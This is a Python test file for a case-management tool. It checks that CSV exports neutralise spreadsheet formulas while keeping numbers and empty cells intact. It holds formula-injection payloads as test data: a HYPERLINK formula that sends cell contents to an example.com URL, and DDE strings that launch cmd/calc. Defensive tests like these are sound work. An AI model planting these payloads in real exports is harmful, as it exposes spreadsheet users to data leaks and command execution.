"""CSV exports a spreadsheet cannot run (issue 14): formulas neutralised, numbers kept, gaps empty.

The payloads go in as a street office's field export would bring them, a CSV
file through ``linpu ingest cases``, and come out of ``linpu export --format
csv`` and of the analyst's download, read back cell by cell with the csv
module (no pandas type guessing between the file and the assertion).
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date

import geopandas as gpd
import pytest
import shapely
import streamlit as st

from governance.filters import CaseFilter
from governance.login import one_time_password, password_problem
from governance.permissions import district_viewer
from governance.settings import get_settings
from pipelines.csv_safety import FORMULA_STARTS, neutralise_formula
from pipelines.export import write_layers
from tests import test_ingest_field as field_tests
from tests import test_ingest_shops as shop_tests
from tests.test_ingest_field import cases_csv, finding
from tests.test_ingest_shops import database_url

cli, shops_db = shop_tests.cli, field_tests.shops_db  # fixtures

#: The issue's payloads, one per formula start: in the title or the description.
PAYLOADS = {
    "title": ['=HYPERLINK("http://example.com/?x="&A1,"click")', "@SUM(1+1)*cmd|calc",
              "-2+3+cmd|' /C calc'!A0"],
    "description": ["+cmd|calc!A0", "=1+1 第二行"],
}


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.fixture
def payload_db(shops_db, cli, tmp_path):
    """The four-grid district with one case per payload, filed through `linpu ingest cases`."""
    rows = [finding(i, title=title) for i, title in enumerate(PAYLOADS["title"])]
    rows += [finding(len(rows) + i, description=text) for i, text in enumerate(PAYLOADS["description"])]
    result = cli(database_url(shops_db), "ingest", "cases", cases_csv(tmp_path, rows))
    assert result.exit_code == 0, result.output
    return shops_db


def test_every_payload_comes_out_of_the_cli_csv_as_text(payload_db, cli, tmp_path):
    url = database_url(payload_db)
    result = cli(url, "export", "--layer", "cases", "--format", "csv", "--out", tmp_path / "cases.csv")
    assert result.exit_code == 0, result.output
    rows = read_csv((tmp_path / "cases.csv").read_bytes().decode("utf-8"))
    for column, payloads in PAYLOADS.items():
        exported = {row[column] for row in rows}
        for payload in payloads:
            assert "'" + payload in exported, (column, payload)
    for row in rows:
        for column, cell in row.items():
            if column != "WKT":
                assert not cell.startswith(FORMULA_STARTS), (column, cell)
    # A case not yet closed has no outcome: an empty cell, never "nan" or "None".
    assert {row["outcome"] for row in rows} == {""}
    assert not any(cell in ("nan", "None", "NaN", "NaT") for row in rows for cell in row.values())


def test_negative_numbers_stay_numbers_in_the_cli_csv(demo_database, cli, tmp_path):
    cli(demo_database, "export", "--layer", "hotspots", "--format", "csv", "--out", tmp_path / "hotspots.csv")
    rows = read_csv((tmp_path / "hotspots.csv").read_bytes().decode("utf-8"))
    z_scores = [row["gi_z"] for row in rows]
    # The demo's quiet grids are below the mean: their z-scores are negative numbers, written bare.
    negative = [z for z in z_scores if z.startswith("-")]
    assert negative and all(float(z) < 0 for z in negative), z_scores
    assert not any(z.startswith("'") for z in z_scores)


def test_text_and_numbers_of_every_kind_in_a_written_csv(tmp_path):
    frame = gpd.GeoDataFrame(
        {"label": ["-5", "\t=1", "\r=2", "5", None, "a=b"], "count": [-2, 0, 3, -1, 4, 5],
         "z": [-1.5, float("nan"), 0.25, -0.0, 2.0, -3.75]},
        geometry=[shapely.Point(-70.5 - i, -33.4) for i in range(6)], crs=4326)
    write_layers({"t": frame}, "csv", tmp_path / "t.csv")
    rows = read_csv((tmp_path / "t.csv").read_bytes().decode("utf-8"))
    assert [row["label"] for row in rows] == ["'-5", "'\t=1", "'\r=2", "5", "", "a=b"]
    assert [row["count"] for row in rows] == ["-2", "0", "3", "-1", "4", "5"]
    assert [row["z"] for row in rows][:3] == ["-1.5", "", "0.25"]
    assert rows[0]["WKT"] == "POINT (-70.5 -33.4)"  # negative coordinates untouched


def test_the_analysts_download_has_the_bytes_of_the_cli(payload_db, cli, tmp_path, monkeypatch):
    from dashboard import data

    url = database_url(payload_db)
    # 07:00 on 4 July in Quanzhou is still 3 July in UTC: the period must be read as the district's days.
    cli(url, "ingest", "cases", cases_csv(tmp_path, [finding(9, created_at="2026-07-04 07:00")], "late.csv"))
    result = cli(url, "export", "--layer", "cases", "--format", "csv", "--start", "2026-07-02",
                 "--end", "2026-07-03", "--out", tmp_path / "cli" / "cases.csv")
    assert result.exit_code == 0, result.output
    monkeypatch.setenv("LINPU_DATABASE_URL", url)
    get_settings.cache_clear()
    st.cache_resource.clear()
    try:
        files, _, features = data.export_files(district_viewer(), layers=("cases",), fmt="csv",
                                               filters=CaseFilter.for_days(date(2026, 7, 2), date(2026, 7, 3)))
    finally:
        st.cache_resource.clear()
        get_settings.cache_clear()
    [(name, payload)] = files
    archive = zipfile.ZipFile(io.BytesIO(payload))
    assert sorted(archive.namelist()) == ["linpu-cases.csv", "linpu-cases.prj"]
    cli_csv = (tmp_path / "cli" / "cases.csv").read_bytes()
    assert archive.read("linpu-cases.csv") == cli_csv
    assert archive.read("linpu-cases.prj") == (tmp_path / "cli" / "cases.prj").read_bytes()
    assert features == {"cases": 2} == {"cases": len(read_csv(cli_csv.decode("utf-8")))}


def test_grids_list_csv_neutralises_names(engine, cli, tmp_path):
    """Leaders' names come from the office's account file: `grids list --format csv` must not run them."""
    shop_tests.seed_district(engine)
    url = database_url(engine)
    leaders = {"G001": PAYLOADS["title"][0], "G002": "@SUM(1+1)*cmd|calc", "G003": "王五"}
    source = tmp_path / "accounts.csv"
    with open(source, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["username", "display_name", "role", "grids"])
        writer.writerows((f"leader{i}", name, "grid_leader", code) for i, (code, name) in enumerate(leaders.items()))
    imported = cli(url, "users", "import", source, "--passwords-out", tmp_path / "passwords.csv")
    assert imported.exit_code == 0, imported.stderr
    listed = cli(url, "grids", "list", "--format", "csv")
    assert listed.exit_code == 0, listed.stderr
    rows = {row["code"]: row for row in read_csv(listed.stdout)}
    assert rows["G001"]["leader"] == "'" + leaders["G001"]
    assert rows["G002"]["leader"] == "'" + leaders["G002"]
    assert rows["G003"]["leader"] == "王五" and rows["G004"]["leader"] == ""
    assert {row["open_cases"] for row in rows.values()} == {"0"}  # counts stay numbers
    # The JSON form is for programs: the names exactly as typed.
    as_json = {r["code"]: r["leader"] for r in json.loads(cli(url, "grids", "list", "--format", "json").stdout)}
    assert as_json["G001"] == leaders["G001"]


def test_the_rejected_rows_csv_neutralises_what_came_in(shops_db, cli, tmp_path):
    rows = [finding(0, category="littering", title=PAYLOADS["title"][0]),
            finding(1, severity="catastrophic", description=PAYLOADS["description"][0]),
            finding(2, category="littering", title="-2+3+cmd|' /C calc'!A0")]
    result = cli(database_url(shops_db), "ingest", "cases", cases_csv(tmp_path, rows), "--skip-invalid")
    assert result.exit_code == 0, result.stderr
    rejected = read_csv((tmp_path / "cases.rejected.csv").read_bytes().decode("utf-8"))
    assert [row["title"] for row in rejected] == ["'" + PAYLOADS["title"][0], "安全出口上锁",
                                                  "'-2+3+cmd|' /C calc'!A0"]
    assert rejected[1]["description"] == "'" + PAYLOADS["description"][0]
    assert "category" in rejected[0]["reason"] and "severity" in rejected[1]["reason"]
    for row in rejected:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values()), row


def test_a_one_time_password_never_starts_like_a_formula():
    # token_urlsafe alone starts with "-" once in 64: 3000 draws miss that with odds of 1 in 10^20.
    passwords = {one_time_password() for _ in range(3000)}
    assert len(passwords) == 3000
    for password in passwords:
        assert neutralise_formula(password) == password, password
        assert password_problem(password, username="leader01") is None
